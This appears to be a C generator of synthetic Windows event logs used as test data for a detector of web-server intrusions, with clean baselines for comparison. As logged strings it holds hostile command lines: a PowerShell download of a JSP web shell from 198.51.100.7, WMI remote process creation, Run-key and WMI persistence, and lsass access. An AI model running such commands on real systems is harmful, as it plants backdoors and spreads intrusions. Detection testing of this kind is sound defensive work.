        { "Hex32", "0xdead", GEN_HEX32, 0 },
        { "Hex64", "0x3e7", GEN_HEX64, 0 },
        { "Null", "leaked", GEN_NULL, GEN_STRING },
        { "Empty", "", GEN_STRING, 0 },
        { "Odd", "tab\tquote\" <tag> & 100% é 𠮷", GEN_STRING, 0 },
    };
    const gen_field cleared[] = {
        { "SubjectUserName", "SYSTEM", GEN_STRING, 0 },
        { "SubjectDomainName", "NT AUTHORITY", GEN_STRING, 0 },
        { "Channel", "Windows PowerShell", GEN_STRING, 0 },
        { "BackupPath", "", GEN_STRING, 0 },
    };
    gen_event ev = { .provider = "Microsoft-Windows-Kernel-General",
                     .provider_guid = "{A68CA8B7-004F-D7B6-A698-07E2DE0F1F5D}",
                     .channel = "System",
                     .computer = "web01.corp.example",
                     .user_sid = "S-1-5-19",
                     .event_id = 1,
                     .task = 5,
                     .version = 1,
                     .level = 4,
                     .keywords = UINT64_C(0x8000000000000010),
                     .created = t,
                     .pid = 4,
                     .tid = 96,
                     .fields = time_change,
                     .field_count = 3 };
    bool ok = log != NULL && gen_add(log, &ev);
    ev.created = t + 7 * ST_TICKS_SECOND;
    ev.event_id = 7036;
    ev.fields = classic;
    ev.field_count = 2;
    ok = ok && gen_add(log, &ev);
    ev.provider = "Example-Values";
    ev.event_id = 100;
    ev.fields = values;
    ev.field_count = sizeof values / sizeof values[0];
    ok = ok && gen_add(log, &ev);
    ev.provider = "Microsoft-Windows-Eventlog";
    ev.provider_guid = "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}";
    ev.event_id = 104;
    ev.task = 104;
    ev.created = s->cleared;
    ev.fields = cleared;
    ev.field_count = sizeof cleared / sizeof cleared[0];
    ev.user_data = "LogFileCleared";
    ok = ok && gen_add(log, &ev);
    s->failed |= !ok;
    finish(s, log, "iis", "System.evtx");
    finish(s, gen_new(NULL), "iis", "Microsoft-Windows-PowerShell%4Admin.evtx");
    write_file(s, "iis", "notes.txt", ST_STR("Collected on 4 March 2026 from web01.\n"));
}

/* testdata/tomcat */

#define TOMCAT "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\"

static void tell_tomcat(story *s)
{
    gen_options no_crc = { .no_crc = true };
    st_buf access = { 0 };
    host h = new_host(s, "APP02", 0xA1B20002, 21, "2026-03-05T20:30:00Z", &no_crc);
    h.access = &access;
    h.tomcat = true;
    proc services = services_of(&h);
    service_state(s, &h);
    background(s, &h, 8);
    proc tomcat = start(s, &h, &services, TOMCAT "bin\\Tomcat9.exe",
                        "\"" TOMCAT "bin\\Tomcat9.exe\" //RS//Tomcat9", LOCAL_SERVICE, "System");
    run(s, &h, &tomcat, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4");
    wait_ms(&h, 3600000);
    shell(s, &h, &tomcat, "cmd.exe /c whoami", SYS32 "whoami.exe", "whoami");
    shell(s, &h, &tomcat, "cmd.exe /c \"net view\"", SYS32 "net.exe", "net view");
    request(&h, INTRUDER, "POST", "/help/x.jsp", 200);
    proc ps = child(
        s, &h, &tomcat, POWERSHELL,
        "powershell.exe -c \"iwr http://198.51.100.7/s.jsp -OutFile ..\\webapps\\ROOT\\s.jsp\"");
    wait_ms(&h, 1000);
    connection(s, &h, &ps, "198.51.100.7", "80");
    writes(s, &h, &ps, TOMCAT "webapps\\ROOT\\s.jsp");
    end(s, &h, &ps);
    background(s, &h, 5);
    proc java = start(s, &h, &services, "C:\\Program Files\\Java\\jre\\bin\\java.exe",
                      "\"C:\\Program Files\\Java\\jre\\bin\\java.exe\" -Dcatalina.base=D:\\portal "
                      "org.apache.catalina.startup.Bootstrap start",
                      "CORP\\svc-portal", "High");
    wait_ms(&h, 50000);
    proc cmd = child(s, &h, &java, SYS32 "cmd.exe", "cmd.exe /c ping -n 1 203.0.113.44");
    run(s, &h, &cmd, SYS32 "ping.exe", "ping  -n 1 203.0.113.44");
    end(s, &h, &cmd);
    background(s, &h, 9);
    finish(s, h.log, "tomcat", "sysmon.evtx");
    write_file(s, "tomcat", "localhost_access_log.2026-03-05.txt", st_buf_slice(&access));
    st_buf_free(&access);
}

/* testdata/clean */

static void clean_desktop(story *s, host *h)
{
    proc userinit = unseen(h, SYS32 "userinit.exe", SYS32 "userinit.exe", "CORP\\admin");
    userinit.level = "Medium";
    proc explorer =
        child(s, h, &userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    wait_ms(h, 5000);
    proc cmd = child(s, h, &explorer, SYS32 "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    wait_ms(h, 2000);
    run(s, h, &cmd, SYS32 "whoami.exe", "whoami");
    run(s, h, &cmd, SYS32 "ipconfig.exe", "ipconfig /all");
    run(s, h, &cmd, SYS32 "ping.exe", "ping web01");
    proc net = child(s, h, &cmd, SYS32 "net.exe", "net user");
    run(s, h, &net, SYS32 "net1.exe", "C:\\Windows\\system32\\net1 user");
    end(s, h, &net);
    end(s, h, &cmd);
    proc ps = child(s, h, &explorer, POWERSHELL, "\"" POWERSHELL "\" ");
    run(s, h, &ps, SYS32 "inetsrv\\appcmd.exe",
        "\"" SYS32 "inetsrv\\appcmd.exe\" list apppool w3wp.exe");
    run(s, h, &explorer, SYS32 "mmc.exe",
        "\"" SYS32 "mmc.exe\" \"C:\\Windows\\system32\\inetsrv\\iis.msc\"");
    run(s, h, &explorer, SYS32 "notepad.exe",
        "\"" SYS32 "notepad.exe\" C:\\inetpub\\wwwroot\\web.config");
    end(s, h, &ps);
}

static void clean_servers(story *s, host *h)
{
    proc services = services_of(h);
    proc was = start(s, h, &services, SYS32 "svchost.exe", SYS32 "svchost.exe -k iissvcs",
                     SYSTEM_USER, "System");
    wait_ms(h, 900);
    proc w3wp = start(s, h, &was, SYS32 "inetsrv\\w3wp.exe", w3wp_line, POOL, "High");
    wait_ms(h, 1500);
    compile_page(s, h, &w3wp);
    proc php = child(s, h, &w3wp, "C:\\Program Files\\PHP\\php-cgi.exe",
                     "\"C:\\Program Files\\PHP\\php-cgi.exe\"");
    run(s, h, &php, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4");
    proc convert = child(s, h, &php, SYS32 "cmd.exe",
                         "cmd.exe /s /c \"\"C:\\Tools\\magick.exe\" in.png -resize 50% out.png\"");
    run(s, h, &convert, "C:\\Tools\\magick.exe", "magick.exe in.png -resize 50% out.png");
    end(s, h, &convert);
    run(s, h, &w3wp, SYS32 "WerFault.exe", SYS32 "WerFault.exe -u -p 4160 -s 920");
    end(s, h, &w3wp);
    proc httpd = start(s, h, &services, "C:\\Apache24\\bin\\httpd.exe",
                       "\"C:\\Apache24\\bin\\httpd.exe\" -k runservice", SYSTEM_USER, "System");
    proc worker = child(s, h, &httpd, "C:\\Apache24\\bin\\httpd.exe",
                        "C:\\Apache24\\bin\\httpd.exe -d C:/Apache24");
    proc nginx =
        start(s, h, &services, "C:\\nginx\\nginx.exe", "nginx.exe", LOCAL_SERVICE, "System");
    proc pipe = child(s, h, &nginx, SYS32 "cmd.exe", "cmd.exe /c \"D:\\site\\bin\\thumbnail.bat\"");
    run(s, h, &pipe, "D:\\site\\bin\\convert.exe", "convert.exe in.tif out.jpg");
    end(s, h, &pipe);
    run(s, h, &worker, "C:\\Apache24\\bin\\rotatelogs.exe", "rotatelogs.exe logs/access.log 86400");
}

/* What servers ask of the system, which looks like an intruder's questions. */
static void clean_questions(story *s, host *h)
{
    proc services = services_of(h);
    proc java = start(s, h, &services, "C:\\ManageEngine\\jre\\bin\\java.exe",
                      "\"C:\\ManageEngine\\jre\\bin\\java.exe\" -Dcatalina.home=C:\\ManageEngine "
                      "org.apache.catalina.startup.Bootstrap",
                      SYSTEM_USER, "System");
    proc cmd = child(s, h, &java, SYS32 "cmd.exe",
                     "cmd.exe /c \"C:\\ManageEngine\\bin\\elasticsearch.bat\" -d");
    run(s, h, &cmd, "C:\\ManageEngine\\jre\\bin\\java.exe",
        "java.exe -cp lib\\* org.elasticsearch.bootstrap.Elasticsearch");
    end(s, h, &cmd);
    run(s, h, &java, SYS32 "sc.exe", "sc query ManageEngineDb");
    run(s, h, &java, SYS32 "net.exe", "net start ManageEngineDb");
    proc node = start(s, h, &services, "C:\\Program Files\\nodejs\\node.exe",
                      "\"C:\\Program Files\\nodejs\\node.exe\" D:\\site\\server.js",
                      "CORP\\svc-web", "High");
    proc sh = child(s, h, &node, SYS32 "cmd.exe",
                    SYS32 "cmd.exe /d /s /c \"netstat -ano | findstr :3000 | findstr LISTENING\"");
    run(s, h, &sh, SYS32 "netstat.exe", "netstat  -ano ");
    end(s, h, &sh);
    sh = child(s, h, &node, SYS32 "cmd.exe", SYS32 "cmd.exe /d /s /c \"git rev-parse HEAD\"");
    run(s, h, &sh, "C:\\Program Files\\Git\\cmd\\git.exe", "git  rev-parse HEAD");
    end(s, h, &sh);
}

/* Programs that only look like servers. */
static void clean_lookalikes(story *s, host *h)
{
    proc explorer =
        unseen(h, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CORP\\dev");
    explorer.level = "Medium";
    proc node = child(s, h, &explorer, "C:\\Program Files\\nodejs\\node.exe",
                      "\"C:\\Program Files\\nodejs\\node.exe\" "
                      "\"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js\" install");
    proc cmd = child(s, h, &node, SYS32 "cmd.exe", SYS32 "cmd.exe /d /s /c \"node install.js\"");
    run(s, h, &cmd, "C:\\Program Files\\nodejs\\node.exe", "node install.js");
    proc tool = child(s, h, &explorer, "C:\\Tools\\xw3wp.exe", "xw3wp.exe");
    proc shell_of_tool = child(s, h, &tool, SYS32 "cmd.exe", "cmd.exe /c echo w3wp.exe");
    run(s, h, &shell_of_tool, SYS32 "whoami.exe", "whoami");
    proc java = child(s, h, &explorer, "C:\\Program Files\\Java\\jre\\bin\\javaw.exe",
                      "javaw.exe -jar C:\\Tools\\editor.jar");
    proc java_shell = child(s, h, &java, SYS32 "cmd.exe", "cmd.exe /c ver");
    run(s, h, &java_shell, SYS32 "tasklist.exe", "tasklist");
    proc services = services_of(h);
    proc sql = start(s, h, &services, "C:\\Program Files\\Microsoft SQL Server\\Binn\\sqlservr.exe",
                     "\"sqlservr.exe\" -sMSSQLSERVER", "NT Service\\MSSQLSERVER", "High");
    run(s, h, &sql, SYS32 "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /c dir D:\\backup");
}

static void tell_clean(story *s)
{
    host h = new_host(s, "web03.corp.example", 0xA1B20003, 22, "2026-03-04T07:00:00Z", NULL);
    service_state(s, &h);
    background(s, &h, 12);
    clean_servers(s, &h);
    background(s, &h, 12);
    clean_desktop(s, &h);
    clean_lookalikes(s, &h);
    clean_questions(s, &h);
    background(s, &h, 12);
    finish(s, h.log, "clean", "Microsoft-Windows-Sysmon%4Operational.evtx");
    host old = new_host(s, "OLD04", 0xA1B20004, 16, "2026-03-04T07:00:00Z", NULL);
    service_state(s, &old);
    background(s, &old, 10);
    clean_desktop(s, &old);
    finish(s, old.log, "clean", "old-schema.evtx");
}

/* testdata/collector */

/* WEB05 asks WMI on FS07 to start a program, which is the one that web01 had. */
static void spreads(story *s, host *from, host *to, const proc *server)
{
    proc cmd = child(s, from, server, SYS32 "cmd.exe",
                     "\"cmd.exe\" /c wmic /node:FS07 process call create C:\\Windows\\Temp\\p.exe");
    wait_ms(from, 30);
    run(s, from, &cmd, SYS32 "wbem\\WMIC.exe",
        "wmic  /node:FS07 process call create C:\\Windows\\Temp\\p.exe");
    end(s, from, &cmd);
    to->now = from->now + 2 * ST_TICKS_SECOND;
    proc wmi = unseen(to, SYS32 "wbem\\WmiPrvSE.exe",
                      SYS32 "wbem\\wmiprvse.exe -secured -Embedding", SYSTEM_USER);
    proc p = start(s, to, &wmi, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe",
                   "CORP\\svc-web", "High");
    connection(s, to, &p, "203.0.113.9", "443");
}

static void tell_collector(story *s)
{
    gen_log *log = gen_new(NULL);
    host hosts[3];
    static const char *const names[3] = { "WEB05.corp.example", "web06.corp.example", "FS07" };
    for (unsigned i = 0; i < 3; i++) {
        hosts[i] = (host){ .computer = names[i],
                           .machine = 0xA1B20005 + i,
                           .fields = 20 + i,
                           .forwarded = true,
                           .log = log,
                           .record = 5000 + 1000 * i,
                           .pid = 800 };
        st_time_iso(ST_STR("2026-03-06T09:00:00Z"), &hosts[i].now);
        wait_ms(&hosts[i], 250 * i);
    }
    for (unsigned i = 0; i < 3; i++)
        service_state(s, &hosts[i]);
    for (unsigned round = 0; round < 4; round++) {
        for (unsigned i = 0; i < 3; i++)
            background(s, &hosts[i], 3);
    }
    proc server = unseen(&hosts[0], SYS32 "inetsrv\\w3wp.exe", w3wp_line, POOL);
    server.level = "High";
    shell(s, &hosts[0], &server, "\"cmd.exe\" /c \"echo <%=now()%> & whoami\"", SYS32 "whoami.exe",
          "whoami");
    spreads(s, &hosts[0], &hosts[2], &server);
    for (unsigned i = 0; i < 3; i++)
        background(s, &hosts[i], 3);
    finish(s, log, "collector", "ForwardedEvents.evtx");
}

/* tests/damaged */

static void tell_damaged(story *s)
{
    host h = new_host(s, "web08.corp.example", 0xA1B20008, 22, "2026-03-07T12:00:00Z", NULL);
    st_buf out = { 0 };
    char path[4096];
    snprintf(path, sizeof path, "%s/sysmon.evtx", s->damaged);
    proc server = unseen(&h, "C:\\nginx\\nginx.exe", "nginx.exe", LOCAL_SERVICE);
    background(s, &h, 30);
    shell(s, &h, &server, "cmd.exe /c systeminfo", SYS32 "systeminfo.exe", "systeminfo");
    background(s, &h, 40);
    if (gen_finish(h.log, &out) && out.n > DAMAGE_AT + DAMAGE_SIZE) {
        memset(out.p + DAMAGE_AT, 0xa5, DAMAGE_SIZE);
        write_path(s, path, st_buf_slice(&out));
    } else {
        s->failed = true;
    }
    st_buf_free(&out);
}

/* tests/events */

static void fetches(story *s, host *h, const proc *p)
{
    ACT(22, 5, p, F("QueryName", "cdn.example"), F("QueryStatus", "0"),
        F("QueryResults", "type:  5 edge.cdn.example;::ffff:203.0.113.7;::ffff:203.0.113.8;"));
    connects(s, h, p, true, "192.168.7.21", "50111", "203.0.113.7", "edge.cdn.example", "443");
    ACT(11, 2, p, F("TargetFilename", "C:\\Users\\dev\\Downloads\\viewer.exe"),
        F("CreationUtcTime", "2026-03-09 08:00:04.000"));
    ACT(15, 2, p, F("TargetFilename", "C:\\Users\\dev\\Downloads\\viewer.exe:Zone.Identifier"),
        F("CreationUtcTime", "2026-03-09 08:00:04.000"),
        F("Hash",
          "SHA1=0123456789ABCDEF0123456789ABCDEF01234567,MD5=00112233445566778899AABBCCDDEEFF"),
        F("Contents", "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://www.example/viewer  "
                      "HostUrl=https://cdn.example/viewer.exe"));
}

static void registers(story *s, host *h, const proc *p)
{
#define KEY "HKLM\\SOFTWARE\\Viewer"
#define RUN "HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Viewer"
    ACT(12, 2, p, F("EventType", "CreateKey"), F("TargetObject", KEY));
    ACT(13, 2, p, F("EventType", "SetValue"), F("TargetObject", RUN),
        F("Details", "%%LOCALAPPDATA%%\\viewer.exe -q"));
    ACT(13, 2, p, F("EventType", "SetValue"), F("TargetObject", KEY "\\Interval"),
        F("Details", "DWORD (0x0000003c)"));
    ACT(13, 2, p, F("EventType", "SetValue"), F("TargetObject", KEY "\\Since"),
        F("Details", "QWORD (0x00000001-0x00000002)"));
    ACT(13, 2, p, F("EventType", "SetValue"), F("TargetObject", KEY "\\Key"),
        F("Details", "Binary Data"));
    ACT(14, 2, p, F("EventType", "RenameKey"), F("TargetObject", KEY), F("NewName", KEY "2"));
    ACT(12, 2, p, F("EventType", "DeleteValue"), F("TargetObject", KEY "2\\Key"));
    ACT(12, 2, p, F("EventType", "DeleteKey"), F("TargetObject", KEY "2"));
}

/* WMI's own events name no process. */
static void subscribes(story *s, host *h)
{
    st_buf utc = { 0 };
    wait_ms(h, 1500);
    st_buf_time_sysmon(&utc, h->now);
    st_buf_char(&utc, 0);
/* clang-format off */
#define WMI(id, type, ...)                                                                         \
    do {                                                                                           \
        const gen_field f[] = { F("RuleName", "-"),          F("EventType", type),                 \
                                F("UtcTime", utc.p),         F("Operation", "Created"),            \
                                F("User", "CORP\\dev"), __VA_ARGS__ };                             \
        add(s, h, id, 3, f, sizeof f / sizeof f[0], "");                                           \
    } while (0)
    /* clang-format on */
    WMI(19, "WmiFilterEvent", F("EventNamespace", " \"root\\\\cimv2\""), F("Name", " \"Daily\""),
        F("Query", " \"SELECT * FROM __InstanceModificationEvent WITHIN 60\""));
    WMI(20, "WmiConsumerEvent", F("Name", " \"Daily\""), F("Type", "Command Line"),
        F("Destination", " \"C:\\\\Users\\\\dev\\\\viewer.exe\""));
    WMI(21, "WmiBindingEvent", F("Consumer", " \"CommandLineEventConsumer.Name=\\\"Daily\\\"\""),
        F("Filter", " \"__EventFilter.Name=\\\"Daily\\\"\""));
    st_buf_free(&utc);
}

static void tell_events(story *s)
{
    host told = new_host(s, "ws09.corp.example", 0xA1B20009, 23, "2026-03-09T08:00:00Z", NULL),
         *h = &told;
    st_buf out = { 0 };
    char path[4096];
    proc system = unseen(h, "System", "-", SYSTEM_USER), explorer, shell, tool, notepad;
    proc lsass = unseen(h, SYS32 "lsass.exe", SYS32 "lsass.exe", SYSTEM_USER);
    system.pid = 4;
    explorer = unseen(h, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "CORP\\dev");
    explorer.level = "Medium";
    service_state(s, h);
    shell = child(s, h, &explorer, POWERSHELL, "powershell.exe -NoProfile -File get.ps1 100%");
    notepad = child(s, h, &explorer, SYS32 "notepad.exe", "notepad.exe");
    fetches(s, h, &shell);
    tool = child(s, h, &shell, "C:\\Users\\dev\\Downloads\\viewer.exe", "viewer.exe -q");
    ACT(7, 3, &tool, F("ImageLoaded", "C:\\Users\\dev\\Downloads\\version.dll"),
        F("FileVersion", "-"), F("Description", "-"), F("Product", "-"), F("Company", "-"),
        F("OriginalFileName", "-"),
        F("Hashes", "SHA256=AABBCCDDEEFF00112233445566778899AABBCCDDEEFF00112233445566778899"),
        F("Signed", "false"), F("Signature", "-"), F("SignatureStatus", "Unavailable"));
    registers(s, h, &tool);
    ACT(2, 5, &tool, F("TargetFilename", "C:\\Users\\dev\\AppData\\Local\\viewer.exe"),
        F("CreationUtcTime", "2019-12-07 09:09:00.000"),
        F("PreviousCreationUtcTime", "2026-03-09 08:00:30.000"));
    reach(s, h, 8, &tool, &notepad);
    reach(s, h, 10, &tool, &lsass);
    ACT(9, 2, &tool, F("Device", "\\Device\\HarddiskVolume3"));
    ACT(17, 1, &tool, F("EventType", "CreatePipe"), F("PipeName", "\\viewer_4f"));
    ACT(18, 1, &notepad, F("EventType", "ConnectPipe"), F("PipeName", "\\viewer_4f"));
    subscribes(s, h);
    ACT(24, 5, &notepad, { "Session", "2", GEN_U32, 0 }, F("ClientInfo", "user: CORP\\dev"),
        F("Hashes", "SHA1=FEDCBA9876543210FEDCBA9876543210FEDCBA98"), F("Archived", "true"));
    ACT(25, 5, &notepad, F("Type", "Image is replaced"));
    {
        const gen_field f[] = { F("RuleName", "-"),
                                F("UtcTime", "2026-03-09 08:01:30.000"),
                                F("ImageLoaded", SYS32 "drivers\\viewer.sys"),
                                F("Hashes", "MD5=FFEEDDCCBBAA99887766554433221100"),
                                F("Signed", "true"),
                                F("Signature", "Example Ltd"),
                                F("SignatureStatus", "Valid") };
        add(s, h, 6, 4, f, sizeof f / sizeof f[0], "");
    }
    connects(s, h, &system, false, "192.168.7.99", "61000", "192.168.7.21", h->computer, "445");
    ACT(23, 5, &tool, F("TargetFilename", "C:\\Users\\dev\\get.ps1"),
        F("Hashes", "SHA1=00000000000000000000000000000000DEADBEEF"),
        { "IsExecutable", "false", GEN_BOOL, 0 }, F("Archived", "true"));
    ACT(26, 5, &tool, F("TargetFilename", "C:\\Users\\dev\\Downloads\\viewer.exe"),
        F("Hashes", "SHA1=0123456789ABCDEF0123456789ABCDEF01234567"),
        { "IsExecutable", "true", GEN_BOOL, 0 });
    end(s, h, &tool);
    snprintf(path, sizeof path, "%s/sysmon.evtx", s->events);
    if (gen_finish(h->log, &out))
        write_path(s, path, st_buf_slice(&out));
    else
        s->failed = true;
    st_buf_free(&out);
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: story OUTDIR DAMAGED EVENTS\n");
        return 2;
    }
    story s = { .out = argv[1], .damaged = argv[2], .events = argv[3] };
    if (!make_dir(s.out) || !make_dir(s.damaged) || !make_dir(s.events)) {
        fprintf(stderr, "story: %s, %s or %s: %s\n", s.out, s.damaged, s.events, strerror(errno));
        return 2;
    }
    tell_iis(&s);
    tell_others(&s);
    tell_tomcat(&s);
    tell_clean(&s);
    tell_collector(&s);
    tell_damaged(&s);
    tell_events(&s);
    return s.failed ? 1 : 0;
}
